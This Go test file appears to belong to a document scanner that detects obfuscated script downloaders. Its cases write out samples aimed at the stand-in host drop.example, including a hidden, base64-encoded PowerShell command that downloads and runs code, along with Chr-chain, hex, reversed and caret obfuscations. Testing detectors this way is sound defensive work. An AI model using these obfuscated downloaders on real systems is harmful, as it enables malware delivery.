package script_test

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"sluice/inspect/child/document/script"
)

func wide(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		b.Write([]byte{c, 0})
	}
	return base64.StdEncoding.EncodeToString([]byte(b.String()))
}

func TestLook(t *testing.T) {
	const u = "http://drop.example/a"
	chars := func(f, sep string) string {
		var parts []string
		for _, c := range []byte(u) {
			parts = append(parts, fmt.Sprintf(f, c))
		}
		return strings.Join(parts, sep)
	}
	for _, c := range []struct {
		name, text string
		calls      []string
		hidden     []string
		urls       []string
	}{
		{"basic that reckons", "Sub Total()\n Dim i As Integer\n For i = 1 To 10: Cells(i, 2).Value = Cells(i, 1).Value * 1.19: Next\n MsgBox \"Shell we add the VAT? It's \" & \"done\"\nEnd Sub\n", nil, nil, nil},
		{"plain", `Shell "cmd.exe /c start " & "` + u + `"`, []string{"shell", "cmd.exe"}, nil, []string{u}},
		{"pieces", `x = "ht" & "tp" _` + "\n" + ` & "://dr" + "op.example/a"`, nil, nil, []string{u}},
		{"chr chain", "s = " + chars("Chr(%d)", " & "), nil, []string{"characters by number"}, []string{u}},
		{"chrw in hex", "s = " + chars("ChrW$(&H%X)", "&"), nil, []string{"characters by number"}, []string{u}},
		{"sums", "s = Chr(52+52) & Chr(0x73 + 1) & Chr(58*2)", nil, nil, nil},
		{"reversed", `StrReverse("a/elpmaxe.pord//:ptth")`, nil, []string{"reversed"}, []string{u}},
		{"numbers", "var a = [" + chars("%d", ", ") + "];", nil, []string{"characters by number"}, []string{u}},
		{"fromCharCode", "eval(String.fromCharCode(" + chars("%d", ",") + "))", nil, []string{"characters by number"}, []string{u}},
		{"char of powershell", "$x = " + chars("[char]%d", "+"), nil, []string{"characters by number"}, []string{u}},
		{"escapes", `var x = "\x68\x74\x74\x70\x3a//drop.example/a"`, nil, []string{"characters by number"}, []string{u}},
		{"percent", `unescape("%68%74%74%70%3a%2f%2fdrop.example%2fa")`, nil, []string{"percent-encoded"}, []string{u}},
		{"hex", `d("` + fmt.Sprintf("%x", u) + `")`, nil, []string{"hex"}, []string{u}},
		{"base64", "atob('" + base64.StdEncoding.EncodeToString([]byte(u)) + "')", nil, []string{"base64"}, []string{u}},
		{"encoded command", "powershell -nop -w hidden -enc " + wide("iex (New-Object Net.WebClient).DownloadString('"+u+"')"),
			[]string{"powershell", "-nop", "-w hidden", "-enc", "net.webclient", "downloadstring"}, []string{"base64"}, []string{u}},
		{"two layers", `x = "` + base64.StdEncoding.EncodeToString([]byte(`y = "`+base64.StdEncoding.EncodeToString([]byte(u))+`"`)) + `"`, nil, []string{"base64"}, []string{u}},
		{"carets", "c^m^d.e^x^e /c p^o^w^e^r^s^h^e^l^l", []string{"cmd.exe", "powershell"}, []string{"marks in words"}, nil},
		{"defanged and unc", `hxxp://drop.example/a \\files.example.org\share\x.exe \\server\share`, nil, nil, []string{u, `\\files.example.org\share\x.exe`}},
		{"vocabularies", `xmlns="http://www.w3.org/2000/svg" http://schemas.microsoft.com/office/word`, nil, nil, nil},
		{"words of life", "the shell company opens; reiexa niwrb knops", nil, nil, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := script.Look(c.text)
			var calls []string
			for _, k := range f.Calls {
				calls = append(calls, k.Name)
			}
			if d := cmp.Diff(c.calls, calls); d != "" {
				t.Errorf("calls (-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.hidden, f.Hidden); d != "" {
				t.Errorf("hidden (-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.urls, f.URLs); d != "" {
				t.Errorf("urls (-want +got):\n%s\n%s", d, f.Decoded)
			}
		})
	}
}

// Long and odd programs take linear time and bounded room.
func TestHostile(t *testing.T) {
	for name, text := range map[string]string{
		"apostrophes":   strings.Repeat("' ", 1<<20),
		"quotes":        strings.Repeat(`"a"&`, 1<<19),
		"one string":    `"` + strings.Repeat("A", 4<<20),
		"numbers":       strings.Repeat("104,", 1<<19),
		"small numbers": strings.Repeat("1,", 1<<19),
		"chr":           strings.Repeat("Chr(104)&", 1<<18),
		"carets":        strings.Repeat("^", 1<<20),
		"slashes":       strings.Repeat(`\`, 1<<20),
		"schemes":       strings.Repeat("http://", 1<<18),
		"percent":       `"` + strings.Repeat("%41", 1<<19) + `"`,
		"empty numbers": strings.Repeat("&H", 1<<20),
		"brackets":      strings.Repeat("[char](", 1<<18),
	} {
		t.Run(name, func(t *testing.T) {
			if f := script.Look(text); len(f.Decoded) > 1<<20 || len(f.URLs) > 200 {
				t.Errorf("%d decoded, %d urls", len(f.Decoded), len(f.URLs))
			}
		})
	}
}

func FuzzLook(f *testing.F) {
	for _, s := range []string{`"a" & Chr(104) + 'x'`, "[char]104+[char]&H41", `"\x68\u0041%41%u0041"`, "powershell -enc " + wide("hello world"), "'a\n\"b", `\\a.b\c http://x`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { script.Look(s) })
}

func BenchmarkLook(b *testing.B) {
	text := strings.Repeat("Private Sub Workbook_Open()\n  Dim x As String\n  x = \"Report \" & Format(Now, \"yyyy\") & Chr(13)\n  Cells(1, 1).Value = x ' the title\nEnd Sub\n", 2000)
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		script.Look(text)
	}
}
